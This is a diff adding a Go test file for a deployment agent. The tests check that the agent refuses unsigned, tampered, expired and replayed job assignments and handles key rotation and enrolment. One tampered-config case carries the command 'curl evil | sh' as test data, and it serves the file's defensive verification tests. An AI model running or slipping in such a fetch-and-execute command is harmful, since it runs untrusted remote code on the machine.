@@ -1,0 +1,350 @@
+package agent
+
+import (
+	"bytes"
+	"context"
+	"crypto/ed25519"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"google.golang.org/protobuf/proto"
+
+	"github.com/byoc-dev/byoc/agentd/identity"
+	"github.com/byoc-dev/byoc/rpc/agentproto"
+	agentv1 "github.com/byoc-dev/byoc/rpc/gen/byoc/agent/v1"
+)
+
+// syncBuffer is a log sink tests read while the agent writes.
+type syncBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (s *syncBuffer) Write(p []byte) (int, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.Write(p)
+}
+
+func (s *syncBuffer) String() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.String()
+}
+
+// wantRefused reads the agent's next write: the report of a refused
+// assignment of job under token, naming why.
+func wantRefused(t *testing.T, fs *fakeStream, job string, token int64, why string) *agentv1.JobResult {
+	t.Helper()
+	m := fs.next(t)
+	r := m.GetResult()
+	if r == nil {
+		t.Fatalf("the agent wrote %v; want the report of job %s's refusal", m, job)
+	}
+	if r.JobId != job || r.FencingToken != token || r.Outcome != agentv1.Outcome_OUTCOME_REFUSED ||
+		!strings.HasPrefix(r.Error, "refused: ") || !strings.Contains(r.Error, why) {
+		t.Fatalf("refusal report %v: want job %s, token %d, REFUSED, an error \"refused: ...%s...\"", r, job, token, why)
+	}
+	return r
+}
+
+// Every assignment that is not exactly what imsd signed for this install,
+// still valid and never run before is refused: never acked, never
+// started, reported to imsd as a failure starting "refused: " under the
+// assignment's token, and logged at ERROR. The agent then goes on taking
+// good assignments.
+func TestAgentRefusesUnverifiedAssignments(t *testing.T) {
+	_, otherKey, _ := ed25519.GenerateKey(nil)
+	for _, tc := range []struct {
+		name string
+		// bad makes the assignment to refuse from a good one of f.
+		bad func(f *fakeIMS, as *agentv1.JobAssignment)
+		why string
+	}{
+		{"unsigned", func(f *fakeIMS, as *agentv1.JobAssignment) { as.Signature = nil }, "not signed"},
+		{"tampered config", func(f *fakeIMS, as *agentv1.JobAssignment) {
+			as.Config = mustStruct(map[string]any{"steps": []any{map[string]any{"run": "curl evil | sh"}}})
+		}, "does not match"},
+		{"config key added", func(f *fakeIMS, as *agentv1.JobAssignment) {
+			as.Config.Fields["extra"] = mustStruct(map[string]any{"a": nil}).Fields["a"]
+		}, "does not match"},
+		{"tampered operation", func(f *fakeIMS, as *agentv1.JobAssignment) { as.Operation = "destroy" }, "does not match"},
+		{"tampered component type", func(f *fakeIMS, as *agentv1.JobAssignment) { as.ComponentType = "terraform" }, "does not match"},
+		{"tampered attempt", func(f *fakeIMS, as *agentv1.JobAssignment) { as.Attempt = 2 }, "does not match"},
+		{"tampered timeout", func(f *fakeIMS, as *agentv1.JobAssignment) { as.TimeoutSeconds = 86400 }, "does not match"},
+		{"tampered expiry", func(f *fakeIMS, as *agentv1.JobAssignment) { as.Signature.ExpireUnixMs += 3600_000 }, "does not match"},
+		{"expired", func(f *fakeIMS, as *agentv1.JobAssignment) { f.sign(as, f.key, time.Now().Add(-time.Second)) }, "expired"},
+		{"another install", func(f *fakeIMS, as *agentv1.JobAssignment) {
+			as.InstallId = "ins_other"
+			f.sign(as, f.key, time.Now().Add(time.Minute))
+		}, `for install "ins_other"`},
+		{"unknown key", func(f *fakeIMS, as *agentv1.JobAssignment) { f.sign(as, otherKey, time.Now().Add(time.Minute)) }, "unknown key"},
+		{"another key under imsd's key id", func(f *fakeIMS, as *agentv1.JobAssignment) {
+			f.sign(as, otherKey, time.Now().Add(time.Minute))
+			as.Signature.KeyId = agentproto.KeyID(f.key.Public().(ed25519.PublicKey))
+		}, "does not match"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			rr := &runRecorder{release: make(chan struct{})}
+			defer close(rr.release)
+			f := &fakeIMS{}
+			logs := &syncBuffer{}
+			startFakeIn(t, f, rr, t.TempDir(), logs)
+			fs := <-f.streams
+			m := f.assign("job_bad", 7, "ins_1")
+			tc.bad(f, m.GetAssignment())
+			fs.down <- m
+			wantRefused(t, fs, "job_bad", 7, tc.why)
+			fs.down <- f.assign("job_ok", 8, "ins_1")
+			ack := fs.next(t).GetAck()
+			if ack == nil || ack.JobId != "job_ok" {
+				t.Fatalf("after the refusal the agent wrote %v, want the ack of job_ok", ack)
+			}
+			fs.down <- &agentv1.ConnectResponse{Msg: &agentv1.ConnectResponse_Accepted{Accepted: &agentv1.WriteAccepted{WriteId: ack.WriteId}}}
+			eventually(t, "job_ok to start", func() bool { s, _ := rr.get(); return len(s) == 1 })
+			if started, _ := rr.get(); started[0] != "job_ok" {
+				t.Fatalf("started %v", started)
+			}
+			if l := logs.String(); !strings.Contains(l, "level=ERROR msg=\"refusing an assignment\" agent=agt_1 job=job_bad") {
+				t.Fatalf("no ERROR line for the refusal in the agent's log:\n%s", l)
+			}
+		})
+	}
+}
+
+// A copy of an attempt the agent holds (a resend) is neither run again
+// nor reported, even tampered: a report would end the attempt it holds.
+func TestAgentIgnoresACopyOfAHeldAttempt(t *testing.T) {
+	rr := &runRecorder{release: make(chan struct{})}
+	defer close(rr.release)
+	f := &fakeIMS{}
+	startFake(t, f, rr)
+	fs := <-f.streams
+	m := f.assign("job_a", 7, "ins_1")
+	fs.down <- m
+	ack := fs.next(t).GetAck()
+	tampered := proto.Clone(m).(*agentv1.ConnectResponse)
+	tampered.GetAssignment().Operation = "destroy"
+	fs.down <- m
+	fs.down <- tampered
+	fs.down <- &agentv1.ConnectResponse{Msg: &agentv1.ConnectResponse_Accepted{Accepted: &agentv1.WriteAccepted{WriteId: ack.WriteId}}}
+	eventually(t, "job_a to start", func() bool { s, _ := rr.get(); return len(s) == 1 })
+	select {
+	case got := <-fs.up:
+		if got.GetHeartbeat() == nil {
+			t.Fatalf("the agent wrote %v after copies of a held attempt", got)
+		}
+	case <-time.After(200 * time.Millisecond):
+	}
+	if s, _ := rr.get(); len(s) != 1 {
+		t.Fatalf("started %v", s)
+	}
+}
+
+// An attempt the agent ran is refused when sent again, also after the
+// agent restarted (the replay record is in the state dir).
+func TestAgentRefusesAReplayedAssignment(t *testing.T) {
+	rr := &runRecorder{release: make(chan struct{})}
+	close(rr.release) // jobs end at once
+	f := &fakeIMS{}
+	dir := t.TempDir()
+	_, stop := startFakeIn(t, f, rr, dir, nil)
+	fs := <-f.streams
+	m := f.assign("job_a", 7, "ins_1")
+	fs.down <- m
+	ack := fs.next(t).GetAck()
+	fs.down <- &agentv1.ConnectResponse{Msg: &agentv1.ConnectResponse_Accepted{Accepted: &agentv1.WriteAccepted{WriteId: ack.WriteId}}}
+	res := fs.next(t).GetResult()
+	if res == nil || res.Outcome != agentv1.Outcome_OUTCOME_SUCCEEDED {
+		t.Fatalf("want job_a's result, got %v", res)
+	}
+	fs.down <- &agentv1.ConnectResponse{Msg: &agentv1.ConnectResponse_Accepted{Accepted: &agentv1.WriteAccepted{WriteId: res.WriteId}}}
+
+	// The same signed assignment again: refused.
+	fs.down <- m
+	wantRefused(t, fs, "job_a", 7, "already run")
+	// And after a restart, still refused.
+	stop()
+	startFakeIn(t, f, rr, dir, nil)
+	fs = <-f.streams
+	fs.down <- m
+	wantRefused(t, fs, "job_a", 7, "already run")
+	if s, _ := rr.get(); len(s) != 1 {
+		t.Fatalf("job_a ran %d times", len(s))
+	}
+}
+
+// The replay record drops what expired, and a torn last line (a crash
+// mid-append) does not stop the agent.
+func TestSeenRecord(t *testing.T) {
+	dir := t.TempDir()
+	now := time.Now()
+	s, err := openSeen(dir, now)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := s.add("job_old", 1, now.Add(-seenSlack-time.Second), now); err != nil {
+		t.Fatal(err)
+	}
+	if err := s.add("job \"quoted\"\n", 2, now.Add(time.Minute), now); err != nil {
+		t.Fatal(err)
+	}
+	f, _ := os.OpenFile(filepath.Join(dir, SeenFileName), os.O_WRONLY|os.O_APPEND, 0)
+	f.WriteString("17000000000")
+	f.Close()
+	s2, err := openSeen(dir, now)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if s2.has("job_old", 1) || !s2.has("job \"quoted\"\n", 2) || s2.has("job \"quoted\"\n", 1) {
+		t.Fatalf("reloaded record: %v", s2.entries)
+	}
+	fi, err := os.Stat(filepath.Join(dir, SeenFileName))
+	if err != nil || fi.Mode().Perm() != 0o600 {
+		t.Fatalf("record file: %v, %v", fi, err)
+	}
+}
+
+// Enrolment binds imsd's key to the token: a token without a fingerprint
+// is refused before it is spent, a key that does not match the token's
+// fingerprint is refused and nothing is saved, the matching key is kept.
+func TestEnrolmentChecksIMSDKey(t *testing.T) {
+	pub, _, _ := ed25519.GenerateKey(nil)
+	otherPub, _, _ := ed25519.GenerateKey(nil)
+	fp := agentproto.KeyID(pub)
+	enrol := func(t *testing.T, sent ed25519.PublicKey, token string) (*fakeIMS, string, error) {
+		f := &fakeIMS{enrollKey: sent}
+		url := serveFake(t, f)
+		dir := t.TempDir()
+		_, err := New(context.Background(), Config{IMSURL: url, StateDir: dir, EnrollToken: token, Runner: &runRecorder{}})
+		return f, dir, err
+	}
+	t.Run("no fingerprint", func(t *testing.T) {
+		f, _, err := enrol(t, pub, "byoc_enr_secret")
+		if !errors.Is(err, ErrTokenWithoutKey) || f.enrolls.Load() != 0 {
+			t.Fatalf("got %v after %d enrolments, want ErrTokenWithoutKey before any", err, f.enrolls.Load())
+		}
+	})
+	t.Run("wrong key", func(t *testing.T) {
+		_, dir, err := enrol(t, otherPub, "byoc_enr_secret."+fp)
+		if err == nil || !strings.Contains(err.Error(), "not the one the enrolment token names") || !strings.Contains(err.Error(), agentproto.KeyID(otherPub)) {
+			t.Fatalf("got %v, want a refusal naming both fingerprints", err)
+		}
+		if _, err := identity.Load(dir); !errors.Is(err, identity.ErrNotEnrolled) {
+			t.Fatalf("an identity was saved: %v", err)
+		}
+	})
+	t.Run("right key", func(t *testing.T) {
+		_, dir, err := enrol(t, pub, "byoc_enr_secret."+fp)
+		if err != nil {
+			t.Fatal(err)
+		}
+		id, err := identity.Load(dir)
+		if err != nil || len(id.IMSDKeys) != 1 || !id.IMSDKeys[0].Equal(pub) {
+			t.Fatalf("saved identity %+v, %v", id, err)
+		}
+	})
+	t.Run("identity without a key", func(t *testing.T) {
+		dir := t.TempDir()
+		key, _ := identity.NewKey()
+		if err := identity.Save(dir, identity.Identity{AgentID: "agt_1", InstallID: "ins_1", PrivateKey: key}); err != nil {
+			t.Fatal(err)
+		}
+		_, err := New(context.Background(), Config{IMSURL: "http://127.0.0.1:1", StateDir: dir, Runner: &runRecorder{}})
+		if !errors.Is(err, identity.ErrNoIMSDKey) || !strings.Contains(err.Error(), "enrol again") {
+			t.Fatalf("got %v", err)
+		}
+	})
+}
+
+// After imsd's key is rotated, the agent trusts the new key only through
+// the welcome's chain, from a key it trusts; it keeps the key across a
+// restart. An endorsement by a key it does not trust adds nothing.
+func TestAgentLearnsARotatedKeyThroughTheChain(t *testing.T) {
+	rr := &runRecorder{release: make(chan struct{})}
+	defer close(rr.release)
+	_, k0, _ := ed25519.GenerateKey(nil)
+	pub1, k1, _ := ed25519.GenerateKey(nil)
+	evilPub, evil, _ := ed25519.GenerateKey(nil)
+	_, evil2, _ := ed25519.GenerateKey(nil)
+	e1 := agentproto.EndorseKey(k0, pub1)
+	eEvil := agentproto.EndorseKey(evil2, evilPub)
+	f := &fakeIMS{key: k0, welcome: &agentv1.Welcome{InstallId: "ins_1", HeartbeatIntervalMs: 100, LeaseDurationMs: 600, KeyChain: []*agentv1.KeyEndorsement{
+		{SignerPublicKey: e1.Signer, PublicKey: e1.Key, Signature: e1.Signature},
+		{SignerPublicKey: eEvil.Signer, PublicKey: eEvil.Key, Signature: eEvil.Signature},
+	}}}
+	dir := t.TempDir()
+	_, stop := startFakeIn(t, f, rr, dir, nil)
+	fs := <-f.streams
+	f.key = k1 // imsd restarted with the new key
+	fs.down <- f.assign("job_new", 7, "ins_1")
+	if ack := fs.next(t).GetAck(); ack == nil || ack.JobId != "job_new" {
+		t.Fatalf("an assignment signed by the endorsed key: got %v, want its ack", ack)
+	}
+	f.key = evil
+	fs.down <- f.assign("job_evil", 8, "ins_1")
+	wantRefused(t, fs, "job_evil", 8, "unknown key")
+
+	id, err := identity.Load(dir)
+	if err != nil || len(id.IMSDKeys) != 2 {
+		t.Fatalf("saved identity holds %d keys (%v), want the old and the new", len(id.IMSDKeys), err)
+	}
+	// Restarted, with no chain in the welcome: the new key is still known.
+	stop()
+	f.welcome = &agentv1.Welcome{InstallId: "ins_1", HeartbeatIntervalMs: 100, LeaseDurationMs: 600}
+	f.key = k1
+	startFakeIn(t, f, rr, dir, nil)
+	fs = <-f.streams
+	fs.down <- f.assign("job_new2", 9, "ins_1")
+	if ack := fs.next(t).GetAck(); ack == nil || ack.JobId != "job_new2" {
+		t.Fatalf("after a restart, an assignment signed by the learnt key: got %v, want its ack", ack)
+	}
+}
+
+// An agent holding a token issued before a rotation enrols: the token
+// names the old key, which endorses the one imsd sends.
+func TestEnrolmentAfterARotation(t *testing.T) {
+	pub0, k0, _ := ed25519.GenerateKey(nil)
+	pub1, _, _ := ed25519.GenerateKey(nil)
+	e := agentproto.EndorseKey(k0, pub1)
+	chain := []*agentv1.KeyEndorsement{{SignerPublicKey: e.Signer, PublicKey: e.Key, Signature: e.Signature}}
+	keys, err := enrolledKeys(agentproto.KeyID(pub0), pub1, chain)
+	if err != nil || len(keys) != 2 {
+		t.Fatalf("enrolment through the chain: %d keys, %v", len(keys), err)
+	}
+	// A chain that does not reach the key imsd sends is a mismatch.
+	pub2, _, _ := ed25519.GenerateKey(nil)
+	if _, err := enrolledKeys(agentproto.KeyID(pub0), pub2, chain); err == nil || !strings.Contains(err.Error(), "not the one the enrolment token names") {
+		t.Fatalf("a key the chain does not endorse: %v", err)
+	}
+	// A forged endorsement under the token's key is refused.
+	bad := []*agentv1.KeyEndorsement{{SignerPublicKey: pub0, PublicKey: pub2, Signature: e.Signature}}
+	if _, err := enrolledKeys(agentproto.KeyID(pub0), pub2, bad); err == nil {
+		t.Fatal("a forged endorsement was accepted at enrolment")
+	}
+}
+
+// FuzzSeenLine: a line of the replay record reads back as written, and
+// no line, however broken, makes the reader fail otherwise than by
+// skipping it.
+func FuzzSeenLine(f *testing.F) {
+	f.Add("job_1", int64(1), int64(1_790_000_000_000), "1790000000000 1 \"job_1\"")
+	f.Add("job \"q\"\n", int64(-3), int64(0), "17000 2 job")
+	f.Fuzz(func(t *testing.T, job string, attempt, ms int64, line string) {
+		k := seenKey{job: job, attempt: attempt}
+		l := formatSeen(k, time.UnixMilli(ms))
+		if strings.Count(l, "\n") != 1 || !strings.HasSuffix(l, "\n") {
+			t.Fatalf("formatted line %q is not one line", l)
+		}
+		got, exp, ok := parseSeen(strings.TrimSuffix(l, "\n"))
+		if !ok || got != k || exp.UnixMilli() != ms {
+			t.Fatalf("%q read back as %v %v %v", l, got, exp, ok)
+		}
+		parseSeen(line)
+	})
+}
